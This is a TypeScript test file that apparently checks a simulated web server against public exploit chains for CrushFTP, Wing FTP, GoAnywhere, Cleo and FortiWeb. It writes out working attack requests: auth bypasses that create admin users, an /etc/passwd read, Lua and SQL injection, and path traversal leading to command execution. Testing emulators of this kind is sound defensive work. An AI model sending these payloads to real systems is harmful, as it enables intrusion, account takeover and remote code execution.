/** The steps of public exploits of file servers and of FortiWeb: users, sessions and host files made, then used. */

import { describe, expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { zipArchive } from '../../../../test/support/sample-archive.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', ['crushftp', 'wing-ftp', 'goanywhere', 'cleo', 'fortiweb']);

describe('file servers', () => {
  it('CrushFTP lets its user make users that log in (CVE-2025-31161), and reads files (CVE-2024-4040)', () => {
    const visitor = stranger(machine);
    const front = visitor.get('/WebInterface/');
    const mark = cookieOf(front, 'currentAuth');
    const race = {
      Cookie: `CrushAuth=${cookieOf(front, 'CrushAuth')}; currentAuth=${mark}`,
      Authorization: 'AWS4-HMAC-SHA256 Credential=crushadmin/',
    };
    const list = visitor.get(
      `/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=${mark}`,
      race,
    );
    expect(list.cves).toContain('CVE-2025-31161');
    expect(list.body).toContain('<user_list_subitem>crushadmin</user_list_subitem>');
    const user = encodeURIComponent(
      '<?xml version="1.0"?><user type="properties"><user_name>mallory</user_name><password>pa55</password><site>(SITE_PASS)</site></user>',
    );
    expect(
      visitor.form(
        '/WebInterface/function/',
        `command=setUserItem&data_action=replace&serverGroup=MainUsers&username=mallory&user=${user}&c2f=${mark}`,
        race,
      ).body,
    ).toContain('OK');
    expect(
      visitor.form('/WebInterface/function/', 'command=login&username=mallory&password=no').body,
    ).toContain('failure');
    expect(
      visitor.form('/WebInterface/function/', 'command=login&username=mallory&password=pa55').body,
    ).toContain('<response>success</response>');
    const read = visitor.send(
      'POST',
      `/WebInterface/function/?command=zip&c2f=${mark}&path=<INCLUDE>/etc/passwd</INCLUDE>&names=/bbb`,
    );
    expect(read.cves).toContain('CVE-2024-4040');
    expect(read.body).toContain('root:x:0:0');
  });

  it('Wing FTP runs the Lua of a session when the session is used (CVE-2025-47812)', () => {
    const visitor = stranger(machine);
    const login = visitor.form(
      '/loginok.html',
      'username=anonymous%00]]%0dlocal+h+%3d+io.popen("id")%0dlocal+r+%3d+h%3aread("*a")%0dh%3aclose()%0dprint(r)%0d--&password=',
    );
    expect(login.cves).toContain('CVE-2025-47812');
    expect(login.body).not.toMatch(id);
    expect(visitor.get('/dir.html').body).not.toMatch(id);
    expect(visitor.get('/dir.html', { Cookie: `UID=${cookieOf(login, 'UID')}` }).body).toMatch(id);
  });

  it('GoAnywhere makes a first administrator once more, who logs in (CVE-2024-0204)', () => {
    const visitor = stranger(machine);
    const path = '/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml';
    expect(visitor.get(path).body).toContain('Create an administrator account');
    const made = visitor.form(
      path,
      'j_id_u%3AcreteAdminGrid%3Ausername=mallory&j_id_u%3AcreteAdminGrid%3Apassword=pa55&j_id_u%3AcreteAdminGrid%3AconfirmPassword=pa55',
    );
    expect(made.cves).toContain('CVE-2024-0204');
    expect(
      visitor.form('/goanywhere/auth/Login.xhtml', 'formPanel%3Ausername=mallory&formPanel%3Apassword=pa55')
        .headers,
    ).toContain('/goanywhere/Dashboard.xhtml');
  });

  it('Cleo runs the host file that autorun names (CVE-2024-55956)', () => {
    const visitor = stranger(machine);
    const put = (path: string, content: string) =>
      visitor.send(
        'POST',
        '/Synchronization',
        { VLSync: 'Multipart;l=0,Acknowledge' },
        `VLSync: ReceivedReceipt;service="AS2";msgId=12345;path="${path}";receiptfolder=Unspecified;\r\n--------boundary\r\n${content}`,
      );
    const host = zipArchive({
      'hosts/main.xml':
        '<Host><Mailbox><Action><Commands>SYSTEM id &gt; /tmp/cleo-was-here</Commands></Action></Mailbox></Host>',
    });
    const sent = put('temp/a1b2.tmp', host);
    expect(sent.cves).toContain('CVE-2024-55956');
    const ran = put('autorun/healthchecktemplate.txt', '-i "temp/a1b2.tmp"\r\n-r "<a>b@c"');
    expect(ran.facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: expect.stringContaining('/tmp/cleo-was-here') }),
    );
  });
});

describe('FortiWeb', () => {
  it('makes an administrator by the traversal, who logs in (CVE-2025-64446)', () => {
    const visitor = stranger(machine);
    const user = { data: { q_type: 1, name: 'mallory', 'access-profile': 'prof_admin', password: 'pa55' } };
    const info = Buffer.from(
      '{"username":"admin","profname":"prof_admin","vdom":"root","loginname":"admin"}',
    ).toString('base64');
    const made = visitor.json('/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi', user, {
      CGIINFO: info,
    });
    expect(made.cves).toContain('CVE-2025-64446');
    expect(made.body).toContain('"can_clone":true');
    const login = visitor.form('/logincheck', 'ajax=1&username=mallory&secretkey=pa55');
    const [, name = '', value = ''] = /Set-Cookie: (APSCOOKIE_FWEB_\w+)=(\w+)/.exec(login.headers) ?? [];
    expect(
      visitor.get('/api/v2.0/system/status.systemstatus', { Cookie: `${name}=${value}` }).body,
    ).toContain('FortiWeb-VM 7.6.4');
    expect(visitor.form('/logincheck', 'ajax=1&username=mallory&secretkey=no').headers).not.toContain(
      'APSCOOKIE',
    );
  });

  it('writes a page by SQL that then runs a header (CVE-2025-25257)', () => {
    const visitor = stranger(machine);
    const status = (token: string) =>
      visitor.get('/api/fabric/device/status', { Authorization: `Bearer ${token}` });
    const checked = status("AAAAAA'or'1'='1");
    expect(checked.cves).toContain('CVE-2025-25257');
    expect(checked.body).toMatch(/"serial":"FVVM08TM\d+".*"device_type":"fortiweb"/);
    expect(visitor.get('/cgi-bin/ml-draw.py').status).toBe(404);
    status("';update/**/fabric_user.user_table/**/set/**/token='a';--");
    status(
      "'/**/UNION/**/SELECT/**/token/**/from/**/fabric_user.user_table/**/into/**/outfile/**/'../../lib/python3.10/site-packages/pylab.py",
    );
    expect(visitor.get('/cgi-bin/ml-draw.py').status).toBe(500);
    expect(visitor.get('/cgi-bin/x.cgi', { 'User-Agent': 'id' }).body).toMatch(id);
  });
});
